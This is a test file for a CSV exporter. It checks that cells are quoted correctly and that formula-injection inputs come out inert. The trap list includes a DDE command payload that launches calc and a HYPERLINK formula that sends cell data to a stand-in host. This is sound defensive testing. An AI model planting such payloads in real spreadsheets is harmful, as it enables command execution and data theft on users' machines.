import fc from 'fast-check';
import { expect, test } from 'vitest';
import { formatCsv } from '#core/exports/format-csv.ts';
import type { Column, Value } from '#core/views/table.ts';

function csvOf(keys: readonly string[], rows: readonly (readonly Value[])[]): string {
  const columns = keys.map((key, index): Column<readonly Value[]> => ({
    key,
    value: (row) => row[index],
  }));
  return formatCsv([{ label: 'Only on pages' }, ...columns], rows);
}

test('ends every line with CRLF and quotes what needs it', () => {
  const text = csvOf(
    ['a', 'b'],
    [
      ['one, two', 'say "no"'],
      ['line\nbreak', undefined],
    ],
  );
  expect(text).toBe('a,b\r\n"one, two","say ""no"""\r\n"line\nbreak",\r\n');
});

const command = "=cmd|' /C calc'!A0";
const traps = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '＋1', '－1', '＠A1', command, `-2+3+${command}`],
  ...['\t=1', '\r=1', '\n=1', '\r\n=1', ' =1', '\u{a0}=1', '\u{feff}=1', "'=1", '"=1', '""=1'],
  ...['a;=1', 'a; =1', 'a;"=1"', 'a;""=1', 'a\n=1', 'a\r\n+1', 'a\t=1', 'a;\t@A1', ';;-1', '\0=1'],
  ...['a";=1;"b', 'a"\n=1', '=HYPERLINK("https://x.example?a="&A1;"more")', 'a;=1,b'],
];

/** The cells that a spreadsheet shows, which begins a quoted cell only where a cell begins. */
function readCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  const pattern = new RegExp(`"((?:[^"]|"")*)"([^${separator}\r\n]*)|([^${separator}\r\n]*)`, 'y');
  for (let place = 0; place < text.length; place += 1) {
    pattern.lastIndex = place;
    const [all = '', quoted, after = '', plain = ''] = pattern.exec(text) ?? [];
    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"') + after);
    place += all.length;
  }
  return cells;
}

test.for(traps.flatMap((trap) => [',', ';'].map((separator) => [trap, separator] as const)))(
  'no spreadsheet runs %j where %s separates cells',
  ([trap, separator]) => {
    const text = csvOf(
      ['a', 'b', 'c'],
      [
        [trap, trap, trap],
        ['x', trap, 1],
      ],
    );
    const cells = readCells(text, separator);
    expect(cells.length).toBeGreaterThan(separator === ',' ? 8 : 3);
    expect(cells.filter((cell) => /^[\s"\u{feff}\0]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
  },
);

test('where commas separate, every text is one cell that differs by apostrophes alone', () => {
  const plain = traps.filter((trap) => !trap.includes('\0'));
  const cells = readCells(
    csvOf(
      ['a'],
      plain.map((trap) => [trap]),
    ),
    ',',
  );
  expect(
    cells
      .slice(1)
      .map((cell) => cell.replaceAll("'", ''))
      .filter((cell) => cell !== ''),
  ).toEqual(plain.map((trap) => trap.replaceAll("'", '')));
});

const runs = /^[\s"\u{feff}]*[=+\-@＝＋－＠]/u;

test('any text comes out inert, and a text without a formula is not altered', () => {
  const part = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '"',
    ',',
    ';',
    '\n',
    '\r',
    '\t',
    ' ',
    'a',
    '＝',
    '\ufeff',
  );
  const text = fc.array(part, { maxLength: 8 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(text, text, (one, two) => {
      const written = csvOf(['a', 'b'], [[one, two]]);
      for (const separator of [',', ';', '\t']) {
        expect(readCells(written, separator).filter((cell) => runs.test(cell))).toEqual([]);
      }
      const [, , , first, second] = readCells(written, ',');
      expect([first, second].map((cell) => cell?.replaceAll("'", ''))).toEqual([one, two]);
    }),
    { numRuns: 2000 },
  );
  expect(csvOf(['a'], [['3 - 2 = 1, and so on']])).toBe('a\r\n"3 - 2 = 1, and so on"\r\n');
});

test('numbers stay numbers', () => {
  expect(csvOf(['a', 'b', 'c'], [[-1.5, 0, true]])).toBe('a,b,c\r\n-1.5,0,true\r\n');
});
